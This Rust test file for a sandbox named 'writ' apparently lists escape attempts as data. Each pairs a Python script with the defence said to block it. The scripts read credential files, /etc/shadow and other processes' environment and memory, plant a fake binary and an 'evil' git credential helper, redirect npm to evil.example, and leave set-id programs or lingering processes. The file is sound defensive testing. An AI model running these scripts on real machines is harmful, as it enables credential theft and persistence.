//! The attacks, as data. A script is Python; it ends with `got()` when it has what it wanted, and is refused by an `OSError`.

use crate::scene::Scene;

/// As whom an attack is tried.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Runs {
    AsBoth,
    /// An ordinary user does not get it in any case.
    AsRoot,
}

/// What shows that an attack succeeded.
#[derive(Clone, Copy)]
pub enum Evidence {
    /// The script says so.
    Says,
    /// The host shows it afterwards.
    Host(fn(&Scene) -> bool),
}

pub struct Attack {
    pub name: &'static str,
    pub does: &'static str,
    pub held_by: &'static str,
    pub runs: Runs,
    pub evidence: Evidence,
    pub script: &'static str,
}

/// The attack of that name.
pub fn named(name: &str) -> &'static Attack {
    ATTACKS.iter().find(|attack| attack.name == name).unwrap()
}

const fn says(name: &'static str, does: &'static str, held_by: &'static str, script: &'static str) -> Attack {
    Attack { name, does, held_by, runs: Runs::AsBoth, evidence: Evidence::Says, script }
}

const fn shows(
    name: &'static str,
    does: &'static str,
    held_by: &'static str,
    shown: fn(&Scene) -> bool,
    script: &'static str,
) -> Attack {
    Attack { name, does, held_by, runs: Runs::AsBoth, evidence: Evidence::Host(shown), script }
}

const fn as_root(attack: Attack) -> Attack {
    Attack { runs: Runs::AsRoot, ..attack }
}

const VIEW: &str = "the view is an allow-list";
const NETWORK: &str = "a network namespace without a route";
const PROCESSES: &str = "a PID namespace of its own";

pub const ATTACKS: &[Attack] = &[
    says(
        "read_the_state",
        "opens writ's store and key file",
        VIEW,
        r#"
for root, _, files in os.walk(A["writ_home"] + "/state"):
    for name in files:
        if read(os.path.join(root, name)): got(name)
"#,
    ),
    shows(
        "write_the_configuration",
        "appends to the person's writ.toml",
        VIEW,
        |scene| scene.host_file("writ/writ.toml").contains("changed"),
        r##"
open(A["writ_home"] + "/writ.toml", "a").write("# changed\n")
"##,
    ),
    says(
        "ask_the_control_socket",
        "connects to the operator's socket",
        VIEW,
        r#"
s = socket.socket(socket.AF_UNIX)
s.connect(A["writ_home"] + "/run/control.sock")
got()
"#,
    ),
    says(
        "open_a_session",
        "connects to the launchers' socket, to open a session with another role",
        VIEW,
        r#"
s = socket.socket(socket.AF_UNIX)
s.connect(A["writ_home"] + "/run/run.sock")
got()
"#,
    ),
    says(
        "run_a_second_writ",
        "runs `writ credential list` against the person's daemon",
        VIEW,
        r#"
out = subprocess.run([A["writ"], "credential", "list"], env=dict(os.environ, WRIT_HOME=A["writ_home"]), capture_output=True)
if out.returncode == 0 and b"k" in out.stdout: got(out.stdout)
"#,
    ),
    says(
        "read_credential_files",
        "reads netrc, aws, gh, docker, kube, ssh, npm, PyPI and agents' logins",
        "copies with placeholders, or nothing",
        r#"
for root, _, files in os.walk(A["home"]):
    for name in files: canary(read(os.path.join(root, name)))
"#,
    ),
    says(
        "read_another_process_environment",
        "reads /proc/*/environ",
        PROCESSES,
        r#"
canary(read("/proc/%d/environ" % A["victim"]))
"#,
    ),
    says(
        "read_another_process_memory",
        "reads /proc/*/mem",
        PROCESSES,
        r#"
pid = A["victim"]
for line in open("/proc/%d/maps" % pid):
    if "[stack]" in line:
        start, end = [int(x, 16) for x in line.split()[0].split("-")]
        with open("/proc/%d/mem" % pid, "rb") as mem:
            mem.seek(start)
            canary(mem.read(end - start))
"#,
    ),
    says(
        "trace_another_process",
        "attaches with ptrace",
        PROCESSES,
        r#"
check(libc.ptrace(16, A["victim"], 0, 0), "PTRACE_ATTACH")
os.waitpid(A["victim"], 0x40000000)
libc.ptrace(17, A["victim"], 0, 0)
got()
"#,
    ),
    says(
        "signal_another_process",
        "sends a signal to a neighbor",
        PROCESSES,
        r#"
os.kill(A["victim"], 0)
got()
"#,
    ),
    says(
        "kill_the_daemon",
        "finds the broker and asks whether it could be killed",
        PROCESSES,
        r#"
os.kill(A["daemon"], 0)
got()
"#,
    ),
    says(
        "limit_the_daemon",
        "takes the broker's descriptors away (prlimit)",
        PROCESSES,
        r#"
import resource
limits = resource.prlimit(A["daemon"], resource.RLIMIT_NOFILE)
resource.prlimit(A["daemon"], resource.RLIMIT_NOFILE, limits)
got(limits)
"#,
    ),
    says(
        "see_other_processes",
        "reads the command lines of others",
        PROCESSES,
        r#"
for pid in filter(str.isdigit, os.listdir("/proc")):
    if b"sleep\x00600" in read("/proc/%s/cmdline" % pid): got(pid)
"#,
    ),
    says(
        "enter_through_another_root",
        "reads the state through /proc/*/root",
        PROCESSES,
        r#"
for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        if os.listdir("/proc/%s/root%s/state" % (pid, A["writ_home"])): got(pid)
    except OSError: pass
"#,
    ),
    as_root(says(
        "join_another_network",
        "setns into another process's network",
        PROCESSES,
        r#"
fd = os.open("/proc/%d/ns/net" % A["victim"], os.O_RDONLY)
check(libc.setns(fd, 0x40000000), "setns")
socket.create_connection(("127.0.0.1", A["tcp"]), 5)
got()
"#,
    )),
    says(
        "connect_to_the_host_loopback",
        "connects to a service on the person's loopback",
        NETWORK,
        r#"
socket.create_connection(("127.0.0.1", A["tcp"]), 5)
got()
"#,
    ),
    shows(
        "send_udp_to_the_host",
        "sends a datagram past the proxy",
        NETWORK,
        Scene::datagram_came,
        r#"
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.sendto(b"key", ("127.0.0.1", A["udp"]))
"#,
    ),
    says(
        "connect_to_an_abstract_socket",
        "connects to an abstract socket, as those of X and D-Bus are",
        NETWORK,
        r#"
s = socket.socket(socket.AF_UNIX)
s.connect("\0" + A["abstract"])
got()
"#,
    ),
    says(
        "connect_to_an_agent_socket",
        "connects to a socket file in the home, as those of ssh-agent and gpg-agent are",
        "the home is a layer: its sockets are dead",
        r#"
s = socket.socket(socket.AF_UNIX)
s.connect(A["home"] + "/agent.sock")
got()
"#,
    ),
    says(
        "connect_to_a_socket_in_the_work_tree",
        "connects to a socket file in the work tree",
        "sockets in the work tree are covered",
        r#"
s = socket.socket(socket.AF_UNIX)
s.connect(A["work"] + "/docker.sock")
got()
"#,
    ),
    as_root(says(
        "open_a_raw_socket",
        "opens a raw socket for ICMP",
        "no capabilities",
        r#"
socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
got()
"#,
    )),
    says(
        "open_a_vsock",
        "opens a vsock, which no namespace confines",
        "seccomp",
        r#"
socket.socket(40, socket.SOCK_STREAM)
got()
"#,
    ),
    says(
        "read_an_inherited_descriptor",
        "reads a descriptor that the caller left open",
        "descriptors from 3 on are closed",
        r#"
os.lseek(A["descriptor"], 0, 0)
canary(os.read(A["descriptor"], 4096))
"#,
    ),
    shows(
        "change_shell_startup",
        "appends to ~/.bashrc",
        "the home is a layer",
        |scene| scene.host_file("home/.bashrc").contains("changed"),
        r##"
open(A["home"] + "/.bashrc", "a").write("# changed\n")
"##,
    ),
    shows(
        "plant_a_fake_writ",
        "writes ~/.local/bin/writ",
        "the home is a layer",
        |scene| !scene.host_file("home/.local/bin/writ").is_empty(),
        r##"
os.makedirs(A["home"] + "/.local/bin", exist_ok=True)
open(A["home"] + "/.local/bin/writ", "w").write("#!/bin/sh\n")
"##,
    ),
    shows(
        "change_git_configuration",
        "sets a helper in ~/.gitconfig",
        "the home is a layer",
        |scene| scene.host_file("home/.gitconfig").contains("helper"),
        r#"
open(A["home"] + "/.gitconfig", "a").write("[credential]\n\thelper = evil\n")
"#,
    ),
    shows(
        "change_npm_configuration",
        "sets another registry in ~/.npmrc",
        "the home is a layer",
        |scene| scene.host_file("home/.npmrc").contains("evil"),
        r#"
open(A["home"] + "/.npmrc", "a").write("registry=https://evil.example\n")
"#,
    ),
    shows(
        "leave_a_file_in_tmp",
        "leaves a file in the shared /tmp, where other programs find it",
        "/tmp is fresh",
        |_| {
            let path = format!("/tmp/writ-escape-{}", std::process::id());
            std::fs::remove_file(path).is_ok()
        },
        r#"
open("/tmp/" + A["marker"], "w").write("x")
"#,
    ),
    says(
        "uncover_by_unmounting",
        "unmounts what covers the state, and looks again",
        "mounts are locked",
        r#"
libc.umount2((A["writ_home"] + "/state").encode(), 2)
libc.umount2(A["writ_home"].encode(), 2)
libc.umount2(A["home"].encode(), 2)
if os.listdir(A["writ_home"] + "/state"): got()
"#,
    ),
    says(
        "uncover_in_a_nested_namespace",
        "becomes root of a namespace of its own and unmounts there",
        "mounts are locked",
        r#"
look = 'umount -l "$0" 2>/dev/null; umount -l "$0/state" 2>/dev/null; mount --bind / /mnt 2>/dev/null; ls "$0/state" "/mnt$0/state" 2>/dev/null'
out = subprocess.run(["unshare", "-Urm", "sh", "-c", look, A["writ_home"]], capture_output=True)
if out.stdout: got(out.stdout)
"#,
    ),
    as_root(says(
        "write_core_pattern",
        "opens /proc/sys/kernel/core_pattern, which makes the kernel run a program",
        "read-only /proc/sys",
        r#"
os.close(os.open("/proc/sys/kernel/core_pattern", os.O_WRONLY))
got()
"#,
    )),
    as_root(says(
        "read_root_secrets",
        "reads /etc/shadow",
        "files of root's alone are absent",
        r#"
if read("/etc/shadow"): got()
"#,
    )),
    shows(
        "leave_a_set_id_program",
        "leaves a program in the work tree that runs as the person for whoever starts it",
        "seccomp: no set-id bits",
        |scene| scene.host_mode("work/tool") & 0o6000 != 0,
        r#"
fd = os.open(A["work"] + "/tool", os.O_CREAT | os.O_WRONLY, 0o755)
os.fchmod(fd, 0o4755)
"#,
    ),
    as_root(shows(
        "give_a_program_capabilities",
        "leaves a program that has capabilities on the host",
        "seccomp: no extended attributes for uid 0",
        |scene| scene.has_capabilities("work/tool"),
        r#"
open(A["work"] + "/tool", "w").close()
os.setxattr(A["work"] + "/tool", "security.capability", bytes.fromhex("01000002" + "00000004" + "00" * 12))
"#,
    )),
    shows(
        "outlive_the_run",
        "leaves a process behind that goes on",
        "the init's end is the end of all",
        |scene| scene.is_locked("work/lock"),
        r#"
lock = open(A["work"] + "/lock", "w")
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        null = os.open("/dev/null", os.O_RDWR)
        for fd in (0, 1, 2): os.dup2(null, fd)
        fcntl.flock(lock, fcntl.LOCK_EX)
        signal.alarm(60)
        signal.pause()
    os._exit(0)
os.wait()
while True:
    probe = open(A["work"] + "/lock")
    try: fcntl.flock(probe, fcntl.LOCK_EX | fcntl.LOCK_NB)
    except BlockingIOError: break
    probe.close()
"#,
    ),
];
